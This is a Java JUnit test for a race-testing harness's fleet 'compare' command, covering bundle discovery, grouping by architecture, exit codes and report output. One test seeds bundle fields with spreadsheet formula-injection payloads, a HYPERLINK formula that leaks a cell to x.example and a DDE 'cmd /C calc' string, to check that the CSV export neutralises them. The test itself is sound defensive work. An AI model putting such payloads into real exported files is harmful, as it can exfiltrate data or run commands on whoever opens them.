package org.racelab.harness.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.racelab.harness.bundle.Fixtures;
import org.racelab.harness.compare.CompareData;
import org.racelab.harness.run.ExitCode;

import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * racelab compare for a class or a fleet: a folder of collected bundles, some of them bad; the
 * machines grouped ({@code --by}); compare.json and compare.csv read back; the exit codes.
 */
class FleetCompareTest {

    private static final String LOST_UPDATE = "org.racelab.stress.interleaving.Interleaving_01_LostUpdate.Plain";

    @TempDir
    Path tmp;

    @Test
    void aFolderIsSearchedAndEachBadBundleIsOneSkippedLine() throws Exception {
        Path cls = tmp.resolve("class");
        copy("bundle-2cpu.json", cls.resolve("alice/results/vm-1"));
        copy("bundle-1cpu.json", cls.resolve("bob/deep/er/vm-2"));
        copy("truncated.json", cls.resolve("carol/vm-3"));
        copy("newer-schema.json", cls.resolve("dave"));
        copy("wrong-type.json", cls.resolve("erin"));
        // a run folder's own raw/ is not searched: this copy must not be a third machine
        copy("bundle-2cpu.json", cls.resolve("alice/results/vm-1/raw"));
        // a bundle.json that is a link (to a real bundle) is not followed
        Files.createDirectories(cls.resolve("mallory"));
        Files.createSymbolicLink(cls.resolve("mallory/bundle.json"), Fixtures.path("bundle-2cpu.json"));

        CliRun run = CliRun.of("compare", cls.toString());
        assertEquals(ExitCode.OK, run.exitCode(), run.toString());
        assertTrue(run.out().startsWith("racelab compare: 2 machines, 4 skipped"), run.out());
        List<String> skipped = run.out().lines().filter(l -> l.startsWith("skipped: ")).toList();
        assertEquals(4, skipped.size(), run.out());
        assertTrue(skipped.contains("skipped: " + cls.resolve("carol/vm-3/bundle.json") + ": cut short at line 122, "
                + "column 48 (a truncated copy, or a run still writing it?)"), skipped.toString());
        assertTrue(skipped.stream().anyMatch(l -> l.startsWith("skipped: " + cls.resolve("dave/bundle.json")
                + ": written by a newer racelab")), skipped.toString());
        assertTrue(skipped.stream().anyMatch(l -> l.startsWith("skipped: " + cls.resolve("erin/bundle.json")
                + ": field ")), skipped.toString());
        assertTrue(skipped.contains("skipped: " + cls.resolve("mallory/bundle.json") + ": a symbolic link, not followed"),
                skipped.toString());
        assertTrue(run.out().contains(cls.resolve("bob/deep/er/vm-2/bundle.json").toString()), "found two levels down");
        assertTrue(run.out().contains("CPUs available to the JVM: M1 2, M2 1"), run.out());
        assertTrue(run.err().isEmpty(), run.err());
    }

    @Test
    void exitTwoWhenNothingUsableIsLeftOrANamedBundleIsBad() throws Exception {
        Path bad = tmp.resolve("bad");
        copy("truncated.json", bad.resolve("a"));
        copy("unknown-schema.json", bad.resolve("b"));
        CliRun nothing = CliRun.of("compare", bad.toString());
        assertEquals(ExitCode.USAGE, nothing.exitCode(), nothing.toString());
        assertEquals(1, nothing.errLines().size(), nothing.toString());
        assertTrue(nothing.err().startsWith("racelab compare: nothing to compare: no readable bundle in " + bad
                + " (2 skipped, the first: "), nothing.err());
        assertTrue(nothing.out().isEmpty());

        Files.createDirectories(tmp.resolve("empty/sub"));
        CliRun empty = CliRun.of("compare", tmp.resolve("empty").toString());
        assertEquals(ExitCode.USAGE, empty.exitCode(), empty.toString());
        assertTrue(empty.err().contains("no bundle.json in it or in the folders below it"), empty.err());

        // a good folder, and a bad file the user named: refused, nothing compared
        Path good = tmp.resolve("good");
        copy("bundle-2cpu.json", good.resolve("a"));
        CliRun named = CliRun.of("compare", good.toString(), Fixtures.path("truncated.json").toString());
        assertEquals(ExitCode.USAGE, named.exitCode(), named.toString());
        assertEquals(1, named.errLines().size(), named.toString());
        assertTrue(named.err().contains("truncated.json: cut short"), named.err());
        assertTrue(named.out().isEmpty(), "nothing compared");

        CliRun by = CliRun.of("compare", good.toString(), "--by", "colour");
        assertEquals(ExitCode.USAGE, by.exitCode(), by.toString());
        assertEquals("racelab compare: --by takes arch|cpu|cores|os|jdk, not 'colour'", by.errLines().get(0));
    }

    @Test
    void byArchGroupsTheMachinesAndTestsTheGroups() throws Exception {
        Path cls = tmp.resolve("fleet");
        // three x86 machines (two spellings of the architecture) that saw the lost update,
        // two arm machines that did not
        machine(cls.resolve("x1"), "x86_64", 1_000_000, 300_000);
        machine(cls.resolve("x2"), "amd64", 2_000_000, 500_000);
        machine(cls.resolve("x3"), "amd64", 1_000_000, 0);
        machine(cls.resolve("a1"), "aarch64", 3_000_000, 0);
        machine(cls.resolve("a2"), "arm64", 1_000_000, 0);
        Path out = tmp.resolve("out");
        CliRun run = CliRun.of("compare", cls.toString(), "--by", "arch", "--out", out.toString());
        assertEquals(ExitCode.OK, run.exitCode(), run.toString());
        assertTrue(run.out().contains("Grouped by architecture (--by arch):"), run.out());
        assertTrue(run.out().contains("G1  x86_64: 3 machines (M3, M4, M5)"), run.out());
        assertTrue(run.out().contains("G2  aarch64: 2 machines (M1, M2)"), run.out());
        // the row in words, pooled per group, and the test between the groups' pooled samples
        assertTrue(run.out().contains("  Interleaving_01_LostUpdate.Plain (JCStress, platform threads): Sometimes on 2 "
                + "of 3 x86_64 machines, Never on 0 of 2 aarch64 machines"), run.out());
        String row = run.out().lines().filter(l -> l.startsWith("  Interleaving_01_LostUpdate.Plain ")
                && l.contains("JCStress")).findFirst().orElseThrow();
        assertTrue(row.contains("Sometimes on 2 of 3: 800,000/4,000,000"), row);
        assertTrue(row.contains("Never on 0 of 2: 0/4,000,000"), row);
        assertTrue(row.contains("differs: chi-square p<1e-300: more than chance"), row);

        JsonNode json = new ObjectMapper().readTree(out.resolve(CompareData.JSON).toFile());
        assertEquals(CompareData.SCHEMA, json.get("schema").asText());
        assertEquals("arch", json.get("groupedBy").asText());
        assertEquals(5, json.get("machines").size());
        assertEquals("x86_64", json.at("/machines/3/arch").asText(), "amd64 is x86_64");
        assertEquals("G1", json.at("/machines/3/group").asText());
        JsonNode lost = null;
        for (JsonNode r : json.get("races")) {
            if (r.get("case").asText().equals("Interleaving_01_LostUpdate") && r.get("variant").asText().equals("Plain")
                    && r.get("configuration").asText().startsWith("JCStress")) {
                lost = r;
            }
        }
        assertEquals("differs", lost.get("flag").asText());
        assertEquals(2, lost.at("/groups/0/seenOn").asInt());
        assertEquals(3, lost.at("/groups/0/ranOn").asInt());
        assertEquals(800_000, lost.at("/groups/0/raceSamples").asLong());
        assertEquals("Never", lost.at("/groups/1/word").asText());
        assertEquals(5, lost.get("machines").size());
        assertEquals(300_000, lost.at("/machines/2/raceSamples").asLong());

        String md = Files.readString(out.resolve("compare.md"));
        assertTrue(md.contains("| G1 | x86\\_64 | 3 |"), md);
        assertTrue(md.contains("- Interleaving\\_01\\_LostUpdate.Plain (JCStress, platform threads): Sometimes on 2 of 3"),
                md);
        String html = Files.readString(out.resolve("compare.html"));
        assertTrue(html.contains("<th>G1 x86_64</th>") && html.contains("Sometimes on 2 of 3: 800,000/4,000,000"), html);
    }

    @Test
    void csvReadsBackAndFormulasFromBundlesStayText() throws Exception {
        Path cls = tmp.resolve("csv");
        ObjectNode evil = Fixtures.tree("bundle-2cpu.json");
        ((ObjectNode) evil.get("machine")).put("host", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
        ((ObjectNode) evil.at("/machine/cpu")).put("model", "@SUM(1+1)*cmd|' /C calc'!A0");
        ((ObjectNode) evil.at("/machine/os")).put("arch", "+x86");
        ((ObjectNode) evil.at("/machine/jvm")).put("version", "-21");
        Fixtures.write(evil, cls.resolve("evil"));
        copy("bundle-1cpu.json", cls.resolve("plain"));
        Path out = tmp.resolve("out");
        CliRun run = CliRun.of("compare", cls.toString(), "--out", out.toString());
        assertEquals(ExitCode.OK, run.exitCode(), run.toString());

        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(Files.readString(out.resolve(CompareData.CSV)))).getRecords();
        CSVRecord first = records.get(0);
        assertEquals(CompareData.CSV_HEADER, first.getParser().getHeaderNames());
        // one race row per machine and test configuration: M1 and M2 alternate
        long raceRows = records.stream().filter(r -> r.get("section").equals("race")).count();
        JsonNode json = new ObjectMapper().readTree(out.resolve(CompareData.JSON).toFile());
        assertEquals(json.get("races").size() * 2L, raceRows);
        CSVRecord evilRow = records.stream().filter(r -> r.get("machine").equals("M1")).findFirst().orElseThrow();
        assertEquals("'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", evilRow.get("host"));
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", evilRow.get("cpu"));
        assertEquals("'+x86", evilRow.get("arch"));
        assertEquals("'-21", evilRow.get("jdk"));
        for (CSVRecord r : records) {
            for (String cell : r.values()) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a formula cell: " + r);
            }
        }
        CSVRecord lost = records.stream().filter(r -> r.get("machine").equals("M1")
                && r.get("test").equals("Interleaving_01_LostUpdate.Plain")
                && r.get("configuration").equals("JCStress, platform threads")).findFirst().orElseThrow();
        assertEquals("Sometimes", lost.get("word"));
        assertEquals("1955967", lost.get("race_samples"));
        assertEquals("5230611", lost.get("samples"));
        assertTrue(records.stream().anyMatch(r -> r.get("section").equals("sched") && r.get("machine").equals("M2")
                && r.get("test").startsWith("timeslice: median")), "the scheduling figures, per machine");
        // JSON keeps the host as the bundle has it
        assertEquals("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", json.at("/machines/0/host").asText());
    }

    @Test
    void pastSixteenMachinesTheColumnsAreGroups() throws Exception {
        Path cls = tmp.resolve("class");
        for (int i = 0; i < 17; i++) {
            machine(cls.resolve(String.format("s%02d", i)), i % 3 == 0 ? "aarch64" : "x86_64", 1_000_000, i * 1000L);
        }
        CliRun run = CliRun.of("compare", cls.toString());
        assertEquals(ExitCode.OK, run.exitCode(), run.toString());
        assertTrue(run.out().contains("Grouped by architecture (17 machines are more than 16 columns; --by "
                + "arch|cpu|cores|os|jdk chooses the fact):"), run.out());
        assertTrue(run.out().contains("  M1 to M17: each with its bundle in"), run.out());
        assertFalse(run.out().contains("  M17  "), "no line per machine");
        String head = run.out().lines().filter(l -> l.startsWith("  CASE.VARIANT")).findFirst().orElseThrow();
        assertTrue(head.contains(" G1 ") && head.contains(" G2 ") && !head.contains(" M1 "), head);
        assertTrue(run.out().contains("G1  x86_64: 11 machines"), run.out());
        assertTrue(run.out().contains("G2  aarch64: 6 machines"), run.out());
    }

    @Test
    void bundlesPastTheBytesOneCompareReadsAreSaidNotRead() throws Exception {
        Path a = tmp.resolve("a");
        Path b = tmp.resolve("b");
        copy("bundle-2cpu.json", a); // 154,995 bytes
        copy("bundle-1cpu.json", b); // 104,248 bytes
        long[] bytes = {0};
        long budget = 200_000;
        assertEquals(null, CompareCommand.overBudget(a, bytes, budget), "a run folder counts its bundle.json");
        assertEquals(154_995, bytes[0]);
        String over = CompareCommand.overBudget(b.resolve("bundle.json"), bytes, budget);
        assertEquals(b.resolve("bundle.json") + ": past the 0 MiB of bundles one compare reads (give fewer at once)",
                over);
        assertEquals(154_995, bytes[0], "a bundle past the budget is not counted in");
        assertEquals(null, CompareCommand.overBudget(b, bytes, 300_000));
    }

    /** A copy of a fixture as FOLDER/bundle.json. */
    private static void copy(String fixture, Path folder) throws Exception {
        Files.createDirectories(folder);
        Files.copy(Fixtures.path(fixture), folder.resolve("bundle.json"));
    }

    /** A real bundle with this architecture, and its plain lost update given these samples and race samples. */
    private static void machine(Path folder, String arch, long samples, long race) {
        ObjectNode b = Fixtures.tree("bundle-2cpu.json");
        ((ObjectNode) b.at("/machine/os")).put("arch", arch);
        for (JsonNode t : b.at("/stress/tests")) {
            if (t.get("name").asText().equals(LOST_UPDATE)) {
                ((ObjectNode) t).put("samples", samples).put("raceSamples", race);
            }
        }
        Fixtures.write(b, folder);
    }
}
